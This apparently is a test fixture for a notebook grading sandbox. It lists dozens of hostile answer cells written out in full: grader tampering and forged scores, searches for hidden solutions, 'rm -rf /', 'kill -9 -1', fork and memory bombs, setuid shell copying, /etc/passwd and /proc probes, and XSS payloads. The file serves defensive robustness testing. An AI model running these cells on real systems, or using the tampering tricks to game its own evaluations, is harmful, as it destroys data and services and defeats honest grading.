"""Hostile code for one answer cell, by name: what is tried, and the cell that tries it.

Each attack stands in the cell of the second task, ``moment``. The other three tasks are
answered honestly. Every attack also tries to leave a wrong answer that looks right.
"""

# How a cell reaches the object that talks to the grader.
CHANNEL = """import gc
kernel = next(one for one in gc.get_objects() if type(one).__name__ == "Kernel")
"""
FORGED = 'moment = {"usual": 1.0, "seconds": 1.0}\n'

# name: (what is tried, code)
IN_TASK_TWO = {
    "builtins-patched": (
        "built-in functions lie from now on",
        """import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda x: 3
builtins.sum = lambda *a: 10**6
builtins.max = builtins.min = lambda *a, **k: 7
builtins.abs = builtins.round = lambda *a: 0
builtins.float = builtins.int = str
builtins.type = lambda *a: dict
builtins.open = builtins.print = builtins.__import__ = None
""",
    ),
    "check-patched": (
        "the check of this object and of its class always give full points",
        """type(exercise).check = lambda *a: 99.0
type(exercise).judge = type(exercise).score = lambda *a: 99.0
exercise.check = lambda *a: 99.0
""",
    ),
    "modules-replaced": (
        "the course's modules are replaced by fakes",
        """import sys, types
for name in list(sys.modules):
    if name.startswith(("k8snet_lessons", "json", "math")):
        sys.modules[name] = types.ModuleType(name)
""",
    ),
    "packing-patched": (
        "what packs answers says something else for every later task",
        """import json
import k8snet_lessons.assess.answers as answers
import k8snet_lessons.assess.grading.inside.recorder as recorder
import k8snet_lessons.assess.grading.wire as wire
for module in (answers, recorder, wire):
    for name in ("plain", "pack", "marked"):
        setattr(module, name, lambda *a: '{"limit": 1}')
json.dumps = json.JSONEncoder.encode = lambda *a, **k: '{"done": 1}'
""",
    ),
    "shell-hooks": (
        "the notebook's shell rewrites every later cell",
        """shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["client = cure = size = 0\\n"])
shell.events.register("pre_run_cell", lambda *a: shell.user_ns.update(client=0, cure=0))
shell.run_cell = lambda *a, **k: None
""",
    ),
    "always-equal": (
        "an object that is equal to everything",
        """class Anything(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __getitem__(self, key): return self
    def get(self, *a): return self
moment = Anything(usual=1, seconds=1)
""",
    ),
    "float-in-disguise": (
        "a subclass of float that is equal to everything",
        """class Near(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    __hash__ = float.__hash__
moment = {"usual": Near(1), "seconds": Near(1)}
""",
    ),
    "not-a-number": (
        "NaN, which compares with nothing",
        'moment = {"usual": float("nan"), "seconds": float("nan")}',
    ),
    "infinite": (
        "infinity, inside every tolerance",
        'moment = {"usual": float("inf"), "seconds": -float("inf")}',
    ),
    "number-that-overflows": (
        "whole numbers too large for arithmetic",
        'moment = {"usual": 10**5000, "seconds": 10**70}',
    ),
    "stack-inspection": (
        "the frames above are searched for the right answer",
        """import sys
frame, found = sys._getframe(), {}
while frame:
    for space in (frame.f_locals, frame.f_globals):
        found.update({k: v for k, v in space.items() if "expected" in str(k).lower()})
    frame = frame.f_back
moment = found or {"usual": 1.0, "seconds": 1.0}
""",
    ),
    "garbage-inspection": (
        "every object in memory is searched for judges and expected values",
        """import gc
moment = {"usual": 1.0, "seconds": 1.0}
for thing in gc.get_objects():
    name = type(thing).__name__
    if name in ("Field", "Task", "Assignment"):
        moment = {"usual": thing.expected(given_moment), "seconds": 0.0}
""",
    ),
    "solutions-read": (
        "the disk is searched for solutions and for the judge's modules",
        """import glob, importlib, os, json
import k8snet_lessons
found = []
for root in ("/", os.path.dirname(os.path.dirname(k8snet_lessons.__file__)), "/proc/1/root"):
    for pattern in ("solutions/*", "exercises/*", "*/solutions/*", "work/*/solutions/*"):
        found += glob.glob(os.path.join(root, pattern))
    found += glob.glob(os.path.join(root, "**/lesson_05*"), recursive=False)
folder = os.path.join(os.path.dirname(k8snet_lessons.__file__), "assess", "tasks")
found += os.listdir(folder)
try:
    judge = importlib.import_module("k8snet_lessons.assess.tasks.lesson_05_conntrack_exhaustion")
    task = judge.ASSIGNMENT.task("moment")
    moment = {name: 1.0 for name in ("usual", "seconds")}
    found.append("the judge is here")
except ImportError:
    pass
moment = {"usual": ",".join(found) or 1.0, "seconds": 1.0}
""",
    ),
    "gradebook-read": (
        "the disk is searched for a gradebook and for other submissions",
        """import os
found = []
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/usr", "/proc", "/lib")) or "site-packages" in folder:
        folders[:] = []
        continue
    found += [f for f in files if f.endswith((".db", ".ipynb", ".csv"))]
moment = {"usual": ",".join(found) or 1.0, "seconds": 1.0}
""",
    ),
    "results-forged": (
        "files and outputs that look like results",
        """import json
from IPython.display import display
result = {"student": "mallory", "score": 100, "max_score": 100, "status": "graded"}
for path in ("grades.db", "../grades.db", "/grades.db", "/tmp/result.json", "score.json"):
    try:
        open(path, "w").write(json.dumps(result))
    except OSError:
        pass
print(json.dumps(result))
print('{"answer": "moment", "value": "{}"}\\n{"done": 99}')
display({"application/vnd.k8snet.score+json": result}, raw=True)
""",
    ),
    "channel-written": (
        "every open descriptor is told that the task is done, and right",
        """import os
line = b'{"answer": "moment", "value": "{\\\\"usual\\\\": 1.0}"}\\n{"done": 8}\\n'
line += b'{"verdict": "right", "points": 100}\\n{"broken": "yes"}\\n'
for number in range(3, 256):
    try:
        os.write(number, line)
    except OSError:
        pass
""",
    ),
    "channel-flooded": (
        "every open descriptor gets more than anybody could read",
        """import os
for number in range(3, 64):
    try:
        while True:
            os.write(number, b"x" * 65536)
    except OSError:
        pass
""",
    ),
    "channel-read": (
        "every open descriptor is read until the end, so that no order arrives",
        """import os, threading
def swallow(number):
    while True:
        os.read(number, 1)
for number in range(3, 16):
    threading.Thread(target=swallow, args=(number,), daemon=True).start()
""",
    ),
    "channel-closed": ("every descriptor is closed", "import os\nos.closerange(0, 256)\n"),
    "exit-at-once": ("the process ends without a word", "import os\nos._exit(0)\n"),
    "exit-by-system": ("SystemExit", "raise SystemExit(0)\n"),
    "exit-handlers": (
        "handlers that run at the end forge and then hang",
        """import atexit, signal, sys
def late(*a):
    while True:
        pass
atexit.register(late)
sys.excepthook = late
signal.signal(signal.SIGTERM, late)
""",
    ),
    "segmentation-fault": ("the interpreter crashes", "import ctypes\nctypes.string_at(1)\n"),
    "abort": ("the interpreter aborts", "import os\nos.abort()\n"),
    "threads-left": (
        "threads go on working, and rewrite the answers of others",
        """import threading
space = globals()
def meddle():
    while True:
        space["client"] = space["cure"] = 0
for _ in range(8):
    threading.Thread(target=meddle, daemon=True).start()
""",
    ),
    "time-bomb": (
        "a thread ends the process while a later task runs",
        """import os, threading
threading.Timer(0.02, os._exit, (0,)).start()
""",
    ),
    "alarm": (
        "a timer interrupts whatever runs later",
        """import signal
def ring(*a):
    raise KeyboardInterrupt
signal.signal(signal.SIGALRM, ring)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
""",
    ),
    "fork-bomb": ("processes without end", "import os\nwhile True:\n    os.fork()\n"),
    "fork-bomb-caught": (
        "processes without end that mind no error",
        """import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    ),
    "fork-and-go-on": ("a copy of the process answers too", "import os\nos.fork()\n"),
    "daemon-left": (
        "a process in a session of its own outlives the cell",
        """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)
""",
    ),
    "memory-bomb": (
        "memory without end",
        "hoard = []\nwhile True:\n    hoard.append(bytearray(10**7))\n",
    ),
    "memory-bomb-shared-out": (
        "memory without end, a bit in each of many processes",
        """import os, time
for _ in range(30):
    if os.fork() == 0:
        hoard = bytearray(b"x") * (200 << 20)
        time.sleep(60)
time.sleep(60)
""",
    ),
    "memory-in-files": (
        "memory without a process: nameless files, shared segments, pipes",
        """import ctypes, os
libc = ctypes.CDLL(None)
kept = []
for i in range(2000):
    try:
        number = os.memfd_create("x")
        os.ftruncate(number, 1 << 26)
        kept.append(number)
    except OSError:
        break
for i in range(100):
    if libc.shmget(i + 77, 1 << 28, 0o1600) < 0:
        break
""",
    ),
    "output-flood": (
        "a printed line without end",
        'while True:\n    print("x" * 100_000)\n',
    ),
    "output-flood-below": (
        "the shell prints without end",
        "!yes | head -c 300000000\n!yes 1>&2 | head -c 100000000\n",
    ),
    "disk-fill": (
        "files without end",
        """number = 0
while True:
    number += 1
    with open(f"/tmp/{number}", "wb") as file:
        file.write(b"0" * 10**7)
""",
    ),
    "inodes-fill": (
        "empty files without end",
        "for n in range(10**6):\n    open(f'/tmp/{n}', 'w').close()\n",
    ),
    "endless-loop": ("a loop without end", "while True:\n    pass\n"),
    "endless-loop-deaf": (
        "a loop without end that ignores every signal",
        """import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    pass
""",
    ),
    "endless-loop-stubborn": (
        "a loop without end that catches the interrupt",
        """while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    ),
    "endless-in-c": ("one operation that takes hours", "x = 9 ** (9 ** 9)\n"),
    "endless-pattern": (
        "a regular expression that takes years",
        'import re\nre.match("(a+)+$", "a" * 60 + "b")\n',
    ),
    "endless-repr": (
        "an error whose text takes for ever",
        """class Long(BaseException):
    def __str__(self):
        while True:
            pass
    __repr__ = __str__
raise Long
""",
    ),
    "endless-finalizer": (
        "an object whose end takes for ever",
        """class Sticky:
    def __del__(self):
        while True:
            pass
Sticky()
""",
    ),
    "sleep": ("a long sleep", "import time\ntime.sleep(10**6)\n"),
    "wait-for-nobody": (
        "a lock that nobody opens",
        "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()\n",
    ),
    "parent-killed": (
        "every process that it can name is killed",
        """import os, signal
for pid in [os.getppid(), 1, -1, *range(2, 400)]:
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid not in (0, os.getpid()):
                os.kill(pid, number)
        except OSError:
            pass
""",
    ),
    "network": (
        "the network is asked for the answer",
        """import socket, urllib.request
for call in (
    lambda: urllib.request.urlopen("http://127.0.0.1:8888/", timeout=1).read(),
    lambda: socket.create_connection(("192.0.2.1", 80), 1),
    lambda: socket.getaddrinfo("kubernetes.io", 443),
    lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
):
    try:
        moment = {"usual": str(call()), "seconds": "reached"}
        break
    except OSError:
        pass
""",
    ),
    "kernel-calls": (
        "mounts, namespaces, tracing and keys by system call",
        """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
got = [
    libc.unshare(0x10000000) == 0,
    libc.unshare(0x20000) == 0,
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0,
    libc.umount2(b"/proc", 2) == 0,
    libc.ptrace(16, 1, 0, 0) == 0,
    libc.setuid(0) == 0,
    libc.sched_setaffinity(0, 8, b"\\xff" * 8) == 0,
    libc.syscall(250, 0, -3, 1, 0, 0) > 0,
]
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/mem", "/usr/x"):
    try:
        open(path, "r+b" if path.startswith("/proc") else "wb").close()
        got.append(path)
    except OSError:
        pass
if any(got):
    moment = {"usual": f"got {got}", "seconds": 1.0}
""",
    ),
    "magics": (
        "magics and shell escapes",
        """%reset -f
!rm -rf / --no-preserve-root 2>/dev/null
%cd /
%env PATH=/nowhere
%autoreload 2
%run /etc/passwd
moment = {"usual": 1.0, "seconds": 1.0}
""",
    ),
    "bash-cell": ("a cell in another language", "%%bash\nkill -9 -1\nexit 0\n"),
    "input-asked": ("the keyboard is asked", 'moment = {"usual": input(), "seconds": input()}\n'),
    "globals-cleared": ("every name is forgotten", "globals().clear()\n"),
    "names-taken": (
        "the names that the course's cells use mean something else",
        """class Exercise:
    def __init__(self, *a, **k): pass
    def ask(self, task): return {}
    def check(self, *a): return 100.0
exercise = Exercise()
TODO = 0
given_client = given_cure = {}
student, seed = "ada", 99
""",
    ),
    "numbers-changed": (
        "the question is made easier, and then answered",
        """exercise.seed = 99
given_moment["requests_per_s"] = 1
given_moment["max_entries"] = 0
import random
random.Random = None
moment = {"usual": 1.0, "seconds": -1.0}
""",
    ),
    "streams-broken": (
        "standard streams are gone",
        """import sys, io
sys.stdout.close()
sys.stdout = sys.stderr = sys.stdin = sys.__stdout__ = None
io.TextIOBase.write = None
""",
    ),
    "surroundings-broken": (
        "folder, environment and search path are gone",
        """import os, sys, shutil
os.environ.clear()
sys.path.clear()
sys.meta_path.clear()
sys.path_hooks.clear()
os.chdir("/proc")
shutil.rmtree("/tmp", ignore_errors=True)
os.umask(0o777)
sys.setrecursionlimit(60)
""",
    ),
    "tracing-left": (
        "every later line is slowed down and watched",
        """import sys, threading, time
def watch(frame, event, argument):
    frame.f_locals.clear()
    time.sleep(0.05)
    return watch
sys.settrace(watch)
sys.setprofile(watch)
threading.settrace(watch)
""",
    ),
    "recursion": ("calls without end", "def f(n):\n    return f(n + 1)\nf(0)\n"),
    "nested-source": ("source nested without end", "x = " + "(" * 3000 + "1" + ")" * 3000 + "\n"),
    "nul-in-source": ("bytes that no source has", "x = 1\x00\n\x01\x02"),
    "lone-surrogate": ("half a character", "x = '\ud800'\n"),
    "script-in-text": (
        "scripts in names, errors, outputs and answers",
        """from IPython.display import HTML, display
display(HTML("<script>alert(1)</script>"))
print("<img src=x onerror=alert(1)>")
moment = {"usual": "<script>alert(1)</script>", "seconds": "</td><script>alert(2)</script>"}
moment["<b onmouseover=alert(3)>"] = 1
raise ValueError("<script>alert(4)</script>")
""",
    ),
    "answer-without-end": (
        "an answer that refers to itself",
        'moment = {"usual": 1.0}\nmoment["seconds"] = moment\n',
    ),
    "answer-enormous": (
        "an answer of a hundred million bytes",
        'moment = {"usual": ["x" * 10_000] * 9_000, "seconds": "y" * 10**8}\n',
    ),
    "answer-explodes": (
        "an answer that raises whenever it is looked at",
        """class Explodes:
    def __getattribute__(self, name): raise SystemError("touched")
    def __eq__(self, other): raise SystemError("compared")
    def __repr__(self): raise SystemError("shown")
    __hash__ = None
moment = Explodes()
""",
    ),
    "answer-lazy": (
        "a generator, a function, a range without end",
        'moment = {"usual": (n for n in iter(int, 1)), "seconds": range(10**15)}\n',
    ),
    "mark-forged": (
        "an answer that spells the channel's own marks",
        'moment = {"usual": {"$": "todo"}, "seconds": {"$": "not finite"}}\n',
    ),
    "papermill-marker": (
        "a marker that papermill reads",
        "moment = {'usual': 1.0, 'seconds': 1.0}\n# papermill_description=",
    ),
    "event-loop-left": (
        "an endless coroutine and an await at the top",
        """import asyncio
async def forever():
    while True:
        await asyncio.sleep(0)
asyncio.ensure_future(forever()) if asyncio._get_running_loop() else None
await asyncio.sleep(3600)
""",
    ),
    "fork-hooks": (
        "code that runs in every fork",
        """import os
os.register_at_fork(after_in_child=lambda: os._exit(0), before=lambda: None)
""",
    ),
    "unpickle": (
        "an answer that runs code when it is copied or loaded",
        """import os
class Loads:
    def __reduce__(self): return os._exit, (0,)
    def __deepcopy__(self, memo): os._exit(0)
    def __float__(self): os._exit(0)
moment = {"usual": Loads(), "seconds": 1.0}
""",
    ),
    "judge-overworked": (
        "numbers that would keep a model busy for ever",
        'moment = {"usual": 1e308, "seconds": -1e-308}\n',
    ),
    "error-of-half-characters": (
        "an error whose text no file, no database and no terminal takes",
        """class Odd(Exception):
    pass
Odd.__name__ = "A\\nB"
raise Odd("\\ud800 \\x00 \\x1b[2J \\u202e")
""",
    ),
    "channel-half-characters": (
        "the channel is told of errors and problems in half characters",
        CHANNEL
        + """kernel._send({"answer": "moment", "problem": "\\ud800"})
for number in range(1, 60):
    kernel._send({"done": number, "error": ["\\ud800", "\\udfff\\x00"]})
""",
    ),
    "channel-forged-ahead": (
        "every cell to come is said to be done, and every task to be answered",
        CHANNEL
        + """for number in range(1, 60):
    kernel._send({"done": number, "error": None})
    kernel._send({"answer": "client", "value": "null"})
    kernel._send({"verdict": "right", "points": 99, "max_points": 1})
""",
    ),
    "channel-slow-talk": (
        "a cell that never ends says something now and then, and ignores the interrupt",
        CHANNEL
        + """import time
while True:
    try:
        kernel._talk.sendall(b"{}\\n")
        time.sleep(0.05)
    except BaseException:
        pass
""",
    ),
    "channel-small-talk": (
        "a flood of messages that are in order and say nothing",
        CHANNEL
        + """import threading, time
def talk():
    while True:
        kernel._talk.sendall(b"{}\\n" * 20_000)
threading.Thread(target=talk, daemon=True).start()
time.sleep(60)
""",
    ),
    "channel-odd-types": (
        "messages whose parts are of other types",
        CHANNEL
        + """for line in (
    b'{"done": true}', b'{"done": [1], "error": {"a": 1}}', b'{"answer": ["moment"]}',
    b'{"answer": "moment", "value": {"usual": 1}}', b'{"done": 1e999}', b'{"done": NaN}',
    b'{"answer": "moment", "problem": 7, "value": "1"}', b'{"answer": {"a": 1}}',
):
    kernel._talk.sendall(line + b"\\n")
""",
    ),
    "descriptors-passed": (
        "hundreds of open files are sent to the grader",
        CHANNEL
        + """import os, socket
for _ in range(200):
    try:
        socket.send_fds(kernel._talk, [b"{}\\n"], [os.open("/dev/null", 0)] * 20)
    except OSError:
        break
""",
    ),
    "shell-taken-apart": (
        "the shell's display, compiler and name spaces are gone",
        """shell = get_ipython()
shell.displayhook = shell.display_formatter = shell.compile = None
shell.user_module.__dict__.clear()
""",
    ),
    "source-transformed": (
        "every later number reads as 0",
        """import ast
class Zero(ast.NodeTransformer):
    def visit_Constant(self, node):
        return ast.copy_location(ast.Constant(0), node)
get_ipython().ast_transformers.append(Zero())
""",
    ),
    "import-hook": (
        "every later import ends the program",
        """import sys
class Finder:
    def find_spec(self, name, path=None, target=None):
        raise SystemExit(name)
sys.meta_path.insert(0, Finder())
for name in list(sys.modules):
    if name not in ("sys", "builtins"):
        del sys.modules[name]
""",
    ),
    "class-lies": (
        "a dictionary that says it is another and ends the process when read",
        """import os
class Lies(dict):
    __class__ = property(lambda self: dict)
    def items(self): os._exit(0)
    def __reduce_ex__(self, protocol): os._exit(0)
    __iter__ = keys = values = items
moment = Lies(usual=1.0, seconds=1.0)
""",
    ),
    "type-lies": (
        "a type that claims to be NumPy's, is equal to all, and has no name",
        """import os
class Meta(type):
    __eq__ = lambda kind, other: True
    __hash__ = lambda kind: hash(dict)
    __name__ = property(lambda kind: 1 / 0)
class Value(metaclass=Meta):
    __module__ = "numpy"
    def item(self): os._exit(0)
moment = {"usual": Value(), "seconds": Value()}
""",
    ),
    "array-without-end": (
        "an array of a thousand million values that takes eight bytes",
        """import numpy
huge = numpy.lib.stride_tricks.as_strided(numpy.zeros(1), (10**9,), (0,))
moment = {"usual": huge, "seconds": numpy.array([object()])}
""",
    ),
    "answer-changes": (
        "a thread changes the answers while they are read",
        """import threading
def meddle():
    while True:
        moment["usual"] += 1
        moment[f"more{moment['usual'] % 500}"] = 1
        globals()["client"] = globals()["cure"] = {}
threading.Thread(target=meddle, daemon=True).start()
""",
    ),
    "set-user-programs": (
        "programs that run with their owner's rights",
        """import glob, os, shutil, subprocess
shutil.copy("/bin/sh", "/tmp/sh")
os.chmod("/tmp/sh", 0o6755)
for path in ["/tmp/sh", *glob.glob("/usr/bin/su"), *glob.glob("/usr/bin/mount")]:
    said = subprocess.run([path, "-p", "-c", "id -u"], capture_output=True, text=True, input="")
    if said.stdout.strip() == "0":
        moment = {"usual": f"got {path}", "seconds": 1.0}
""",
    ),
    "own-folder-replaced": (
        "its folders become links to the system's",
        """import os, shutil
os.chdir("/")
for name in ("/tmp/work", "/tmp/.ipython"):
    shutil.rmtree(name, ignore_errors=True)
    os.symlink("/etc", name)
""",
    ),
}
